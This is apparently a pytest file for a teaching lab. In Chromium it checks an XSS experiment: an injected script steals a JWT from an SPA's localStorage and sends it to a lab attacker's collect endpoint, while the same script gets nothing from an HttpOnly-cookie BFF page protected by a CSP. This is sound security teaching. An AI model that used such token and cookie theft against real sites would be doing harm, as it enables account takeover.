"""Chapter 07's XSS experiment, checked in Chromium without a notebook: the same injected
script takes the SPA's localStorage token (which then works from anywhere until its exp), and
takes nothing from the BFF page, whose script can still act as the victim while it is open."""

from __future__ import annotations

import json

import pytest

from labserver.browser import xss

pytestmark = pytest.mark.browser


@pytest.fixture(scope="module")
def spa(lab):
    return xss.xss_on_spa(lab)


@pytest.fixture(scope="module")
def bff(lab):
    return xss.xss_on_bff(lab)


def test_the_spas_token_reaches_the_attacker(spa):
    token = spa.read["localStorage"].get("access_token", "")
    assert token.startswith("eyJ") and token.count(".") == 2, "the page keeps a JWT"
    assert spa.read["cookie"] == "" and spa.read["sent"] == "sent"
    assert [loot["localStorage"]["access_token"] for loot in spa.arrived] == [token]
    assert spa.token_stolen and spa.token_sub == "alice"


def test_the_stolen_token_works_without_the_browser_until_its_exp(spa):
    assert spa.answers() == {
        "right away": 200,
        "after the victim closed the tab": 200,
        "10 s before exp + leeway (lab clock)": 200,
        "10 s after exp + leeway (lab clock)": 401,
    }
    assert spa.token_lifetime > 0 and spa.leeway >= 0


def test_the_bff_page_gives_the_script_no_credential(bff):
    assert bff.stored == ("bff (HttpOnly)",), "the browser does hold the session cookie"
    assert (bff.read["cookie"], bff.read["localStorage"]) == ("", {})
    assert bff.read["sent"] == "blocked", "the page's CSP refuses a fetch to another origin"
    assert bff.read_without_csp["sent"] == "sent", "without a CSP the send goes out"
    assert bff.arrived == [{"cookie": "", "localStorage": {}}]
    assert not bff.credential_stolen
    assert bff.from_outside == 401, "what it stole does not open the BFF from elsewhere"


def test_a_script_in_the_bff_page_acts_as_the_victim_until_logout(bff):
    assert bff.in_page["status"] == 200
    assert json.loads(bff.in_page["body"])["sub"] == "alice"
    assert bff.bff_sent_bearer and not bff.answer_has_token, (
        "the BFF called the API with a bearer token, and no token reached the page"
    )
    assert bff.after_logout["status"] == 401


def test_the_script_does_read_a_cookie_that_is_not_http_only(lab):
    """The check that HttpOnly hides the BFF's cookie could pass by accident if the script read
    nothing at all: it reads a cookie without HttpOnly, and the send carries it."""
    with lab.browser() as browser:
        browser.add_cookie("visible", "1", "/")
        tab = browser.open("/browser/arrived")
        tab.run("localStorage.setItem('kept', 'yes')")
        loot = tab.run(xss.STEAL, lab.attacker.url + "/collect")
    assert (loot["cookie"], loot["localStorage"], loot["sent"]) == (
        "visible=1",
        {"kept": "yes"},
        "sent",
    )
    arrived = json.loads(lab.attacker.http.get("/loot").json()["loot"][-1]["data"])
    assert arrived == {"cookie": "visible=1", "localStorage": {"kept": "yes"}}


def test_the_printed_results_hold_no_port_or_token(lab, spa, bff):
    for printed in (str(spa), str(bff)):
        for varying in (lab.url.rsplit(":", 1)[1], lab.attacker.url.rsplit(":", 1)[1], "eyJ"):
            assert varying not in printed
    assert "200 alice" in str(spa) and "401 invalid_token" in str(spa)
    assert "a credential reached it:    no" in str(bff)
